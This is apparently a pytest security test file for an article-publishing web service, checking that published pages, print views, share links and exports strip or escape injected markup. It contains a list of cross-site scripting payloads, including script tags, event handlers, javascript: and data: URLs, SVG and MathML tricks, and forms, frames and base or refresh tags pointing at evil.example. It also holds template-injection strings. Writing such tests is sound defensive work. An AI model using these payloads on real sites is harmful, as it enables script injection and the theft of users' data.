"""What publishers and readers might try: nothing of it runs on a page."""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup

from tests.service import Service
from tests.web.roots import article_of

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script in an unclosed tag": "<script src=//evil.example/x.js //",
    "a handler": '<img src="https://a.example/i.png" onerror="alert(1)">',
    "a handler without quotes": "<b onmouseover=alert(1)>b</b>",
    "a handler behind a slash": "<img/src=x/onerror=alert(1)>",
    "a script address": '<a href="javascript:alert(1)">a</a>',
    "a script address with white space": '<a href=" java\nscript:alert(1)">a</a>',
    "a script address as entities": '<a href="&#106;avascript&colon;alert(1)">a</a>',
    "a script address after a control character": '<a href="\x01javascript:alert(1)">a</a>',
    "a data address": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "an image of data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "SVG": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)>x</a></svg>",
    "SVG in MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "a style": "<style>body{background:url(//evil.example)}</style>",
    "a style attribute": '<p style="position:fixed;inset:0">over all</p>',
    "a class": '<p class="snippet" id="snippet-1">a false mark</p>',
    "a mark": '<mark class="snippet" data-snippets="1" id="snippet-1">a false mark</mark>',
    "an id of ours": '<p id="article">x</p><p id="panel">y</p><p id="messages">z</p>',
    "a form": '<form action="//evil.example"><input name=p><button>Go</button></form>',
    "a frame": '<iframe src="//evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="//evil.example"></object><embed src="//evil.example"><applet code=x></applet>',
    "a base": '<base href="//evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "a link to a style sheet": '<link rel="stylesheet" href="//evil.example/x.css">',
    "a template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "a comment": "<!--><img src=x onerror=alert(1)>-->",
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "an end of ours": "</article></main></body><script>alert(1)</script>",
    "a text area": "<textarea></article><script>alert(1)</script></textarea>",
    "plain text": "<plaintext><script>alert(1)</script>",
    "escaped markup": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "bad nesting": "<b><p><i></b></p><table><p><tr><td></i><a href=x><a href=y>",
    "a template of ours": "{{ config }}{% include 'base.html' %}",
}
_SAFE = re.compile(r"(https?://|mailto:|tel:|#c-)")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_attacks_are_published_harmless(service: Service, slug: str, attack: str) -> None:
    published = service.publish(slug, f"<h1>Title</h1><p>Before.</p>{attack}<p>After.</p>")
    assert published.status == 201, published.text
    token = service.share(slug, "Before", "Title")["token"]
    for path in (f"/articles/{slug}", f"/articles/{slug}/print", f"/s/{token}", f"/s/{token}/print"):
        page = BeautifulSoup(service.get(path).text, "html.parser")
        articles = page.find_all(id="article")
        assert len(articles) == 1
        for tag in articles[0].find_all(True):
            assert tag.name not in {"script", "style", "svg", "math", "iframe", "form", "input", "object", "embed"}
            assert tag.name not in {"base", "meta", "link", "template", "button", "textarea", "noscript"}
            for name, value in tag.attrs.items():
                assert not name.startswith("on")
                assert name not in {"style", "srcdoc", "xlink:href", "srcset"}
                if name in ("href", "src", "cite"):
                    assert _SAFE.match(str(value)), value
                if name == "id":
                    assert str(value).startswith(("c-", "snippet-"))
            if "snippet" in (tag.get("class") or []):
                assert tag.get_text() in ("Before", "Title")
        for script in page.find_all("script"):
            assert script.get("type") in DATA or str(script.get("src")).startswith("/static/")
        assert not page.select("[style]")
    assert service.text(slug) == article_of(service.get(f"/articles/{slug}")).get_text()


#: Types of scripts that run nothing.
DATA = ("application/json", "application/ld+json")

WORDS = [
    pytest.param('"><script>alert(1)</script>', id="a script"),
    pytest.param("</title></script><img src=x onerror=alert(1)>", id="ends of tags"),
    pytest.param("' onmouseover='alert(1)", id="a handler"),
    pytest.param("{{ 7*7 }} ${7*7} <!--", id="templates"),
    pytest.param("[x](javascript:alert(1)) ](https://evil.example) `code`", id="Markdown"),
    pytest.param("a\u202eb\u2028c&amp;lt;", id="odd characters"),
]


@pytest.mark.parametrize("words", WORDS)
def test_words_are_escaped_everywhere(service: Service, slug: str, words: str) -> None:
    escaped = words.replace("&", "&amp;").replace("<", "&lt;")
    details = {"title": words, "author": words, "publisher": words}
    assert service.publish(slug, f"<h1>{escaped}</h1><p>Said: {escaped}.</p>", **details).status == 201
    share = service.share(slug, "Said: " + words)
    token = share["token"]
    for path in ("/", f"/articles/{slug}", f"/articles/{slug}/print", f"/s/{token}", f"/s/{token}/print"):
        text = service.get(path).text
        page = BeautifulSoup(text, "html.parser")
        for tag in page.find_all(True):
            assert not any(name.startswith("on") for name in tag.attrs), tag
            assert tag.name != "img" or str(tag["src"]).startswith("/s/")
            assert not str(tag.get("href", "")).startswith("javascript")
        for script in page.find_all("script"):
            assert script.get("type") in DATA or str(script.get("src")).startswith("/static/")
        assert "49" not in (page.title.get_text() if page.title else "")
    assert service.get(f"/s/{token}.json").json["snippets"][0]["quote"] == "Said: " + words
    assert service.get(f"/oembed?url={share['url']}").json["title"] == " ".join(words.split())
    markdown = service.get(f"/s/{token}.md").text
    assert not re.search(r"(?<!\\)(\]\(javascript|<script|<img)", markdown)
